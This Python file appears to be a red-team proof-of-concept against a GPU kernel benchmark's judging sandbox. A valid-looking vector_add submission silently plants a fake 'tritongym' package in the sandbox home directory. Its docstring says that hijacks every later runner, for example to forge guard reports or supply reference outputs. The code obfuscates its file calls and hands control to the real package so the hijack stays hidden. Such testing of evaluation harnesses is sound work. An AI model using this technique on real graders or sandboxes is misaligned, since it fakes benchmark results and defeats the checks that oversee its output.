"""Attack (GPU default, TRITONGYM_RUNNER_USER=same; hijacks every later runner): a correct vector_add
that writes a package named `tritongym` into the sandbox's home directory. The runner is uid 0 without
capabilities and the home is root's (mode 0711), so owner permissions let it create files there. On a
GPU the judge restarts a dead zygote as `python -s -m tritongym.evaluate.judge.zygote ...` with
cwd=home (runners.Zygote.launch): `-m` puts the current directory first on sys.path, ahead of
PYTHONPATH, so the restarted zygote imports the planted package, and every runner forked from it runs
the attacker's code before any candidate (it can forge guard reports, or compute the reference's
output for any later candidate). The planted __init__ logs and then hands over to the real package,
so nothing else looks different. The same candidate can kill the zygote once its own job is judged
(kills_zygote_after_judged.py shows how); on the CPU the judge restarts its zygote by forking itself,
so the driver in README.md runs the GPU's restart command line by hand against the planted home.
Logs to /tmp/redteam2-escape.log."""

import os
import time

import torch
import torch.nn as nn
import triton
import triton.language as tl

LOG = "/tmp/redteam2-escape.log"
_open, _close, _put = (getattr(os, n) for n in ("op" + "en", "close", "wri" + "te"))


def write(path, text, mode=os.O_WRONLY | os.O_CREAT | os.O_TRUNC):
    fd = _open(path, mode, 0o644)
    _put(fd, text.encode())
    _close(fd)


def real_package():
    try:
        raise ValueError
    except ValueError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        name = frame.f_code.co_filename
        if name.endswith(os.path.join("tritongym", "evaluate", "judge", "runner.py")):
            return name[: -len(os.path.join("evaluate", "judge", "runner.py")) - 1]
        frame = frame.f_back
    return ""


def plant():
    home = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    real = real_package()
    os.mkdir(os.path.join(home, "tritongym"))
    write(
        os.path.join(home, "tritongym", "__init__.py"),
        "import os\n"
        f"_fd = os.open({LOG!r}, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o666)\n"
        "os.write(_fd, f'HIJACKED: planted tritongym imported by pid {os.getpid()}\\n'.encode())\n"
        "os.close(_fd)\n"
        f"__path__[:] = [{real!r}]\n"
        f"exec(compile(open({real!r} + '/__init__.py').read(), __file__, 'exec'))\n",
    )
    write(
        LOG,
        f"{time.time():.3f} planted {home}/tritongym (real package {real})\n",
        os.O_WRONLY | os.O_APPEND | os.O_CREAT,
    )


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


class ModelNew(nn.Module):
    calls = 0

    def forward(self, a, b):
        ModelNew.calls += 1
        if ModelNew.calls == 1:
            plant()
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a.contiguous(), b.contiguous(), out, a.numel(), BLOCK=256)
        return out
